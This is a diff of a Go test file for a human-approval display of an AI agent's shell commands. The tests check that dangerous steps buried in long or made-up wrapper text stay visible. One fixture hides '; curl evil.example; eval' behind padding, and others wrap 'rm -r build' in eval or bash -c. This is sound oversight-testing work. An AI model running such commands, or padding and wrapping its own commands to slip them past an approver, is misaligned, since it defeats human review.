@@ -8,11 +8,8 @@ import (
 )
 
 // wrappedPlan is a plan whose command stands in a text of the agent's program.
-func wrappedPlan(before, inside, after string, around []any, reasons ...any) map[string]any {
+func wrappedPlan(before, inside, after string, reasons ...any) map[string]any {
 	args := map[string]any{"command": before + inside + after, "canonical": before + inside + after + " ", "inside": inside}
-	if around != nil {
-		args["around"] = around
-	}
 	return map[string]any{
 		"risk": 1, "reasons": reasons,
 		"tool_calls": []any{map[string]any{"tool_call_id": "c1", "tool_name": "shell", "args": args}},
@@ -28,14 +25,13 @@ func reason(start, end int) any {
 func TestWrapped(t *testing.T) {
 	before, after := strings.Repeat("__SAVED=\"${SAVED-}\"\n", 2000)+"exec bash -c '", "'\n# end"
 	at := len(before)
-	around := []any{"codex", "/h/.codex/shell_snapshots/1.sh"}
-	plan := wrappedPlan(before, "rm -r build", after, around, reason(at+6, at+11), reason(0, at+11+len(after)))
+	plan := wrappedPlan(before, "rm -r build", after, reason(at+6, at+11), reason(0, at+11+len(after)))
 	p := approval.Render(spell(t, plan), approval.RenderOptions{})
 	text := p.Text()
-	if p.Truncated || !p.Inline || len(p.Lines) > 20 {
+	if !p.Truncated || len(p.Lines) > 20 { // somebody could choose by it what is read first
 		t.Errorf("cut %v, inline %v:\n%s", p.Truncated, p.Inline, text)
 	}
-	for _, want := range []string{"\nagent's  1│ rm -r ⟪build⟫\n", "\naround   codex · /h/.codex/shell_snapshots/1.sh\n", "\nrun      ⟦[folded, 40032 chars]⟧\n", "\nruns as  ⟦[folded, 40033 chars]⟧\n"} {
+	for _, want := range []string{"\nagent's  1│ rm -r ⟪build⟫\n", "\nrun      ⟦[folded, 40032 chars]⟧\n", "\nruns as  ⟦[folded, 40033 chars]⟧\n"} {
 		if !strings.Contains(text, want) {
 			t.Errorf("no %q:\n%s", want, text)
 		}
@@ -52,31 +48,27 @@ func TestWrapped(t *testing.T) {
 // B-R5.2a: what a reason points at is shown wherever it stands.
 func TestDangerInAWrapper(t *testing.T) {
 	before := strings.Repeat("x", 500) + "; curl evil.example; eval '"
-	for _, around := range [][]any{{"codex"}, nil} {
-		plan := wrappedPlan(before, "ls", "'", around, reason(502, 519), reason(400, len(before)+1))
-		if p := approval.Render(spell(t, plan), approval.RenderOptions{}); !strings.Contains(p.Text(), "curl evil.example") {
-			t.Errorf("hidden:\n%s", p.Text())
-		}
+	plan := wrappedPlan(before, "ls", "'", reason(502, 519), reason(400, len(before)+1))
+	if p := approval.Render(spell(t, plan), approval.RenderOptions{}); !strings.Contains(p.Text(), "curl evil.example") {
+		t.Errorf("hidden:\n%s", p.Text())
 	}
 }
 
-// A wrapper that is not known may have been made up: it is answered only after all of it was read.
+// A text around a command may have been made up: it is answered only after all of it was read.
 func TestUnknownWrapper(t *testing.T) {
-	for _, around := range [][]any{nil, {}} {
-		plan := wrappedPlan(strings.Repeat("true\n", 60)+"eval '", "rm -r build", "'", around)
-		short := approval.Render(spell(t, plan), approval.RenderOptions{})
-		full := approval.Render(spell(t, plan), approval.RenderOptions{Full: true})
-		if !short.Truncated || !strings.Contains(short.Text(), "agent's  1│ rm -r build\n") {
-			t.Errorf("%v:\n%s", around, short.Text())
-		}
-		listing := full.Text()[strings.Index(full.Text(), "every value by its name"):]
-		if full.Truncated || strings.Count(listing, "true⏎") < 60 || !strings.Contains(full.Text(), "run      ⟦[folded") {
-			t.Errorf("%v:\n%s", around, full.Text())
-		}
-		// With a repeated text nobody can tell which one a reason means, so all of them are shown.
-		twice := wrappedPlan("ls; ", "ls", "; ls", around, reason(4, 6))
-		if p := approval.Render(spell(t, twice), approval.RenderOptions{}); !strings.Contains(p.Text(), "⟪ls⟫") {
-			t.Errorf("%s", p.Text())
-		}
+	plan := wrappedPlan(strings.Repeat("true\n", 60)+"eval '", "rm -r build", "'")
+	short := approval.Render(spell(t, plan), approval.RenderOptions{})
+	full := approval.Render(spell(t, plan), approval.RenderOptions{Full: true})
+	if !short.Truncated || !strings.Contains(short.Text(), "agent's  1│ rm -r build\n") {
+		t.Errorf("%s", short.Text())
+	}
+	listing := full.Text()[strings.Index(full.Text(), "every value by its name"):]
+	if full.Truncated || strings.Count(listing, "true⏎") < 60 || !strings.Contains(full.Text(), "run      ⟦[folded") {
+		t.Errorf("%s", full.Text())
+	}
+	// With a repeated text nobody can tell which one a reason means, so all of them are shown.
+	twice := wrappedPlan("ls; ", "ls", "; ls", reason(4, 6))
+	if p := approval.Render(spell(t, twice), approval.RenderOptions{}); !strings.Contains(p.Text(), "⟪ls⟫") {
+		t.Errorf("%s", p.Text())
 	}
 }
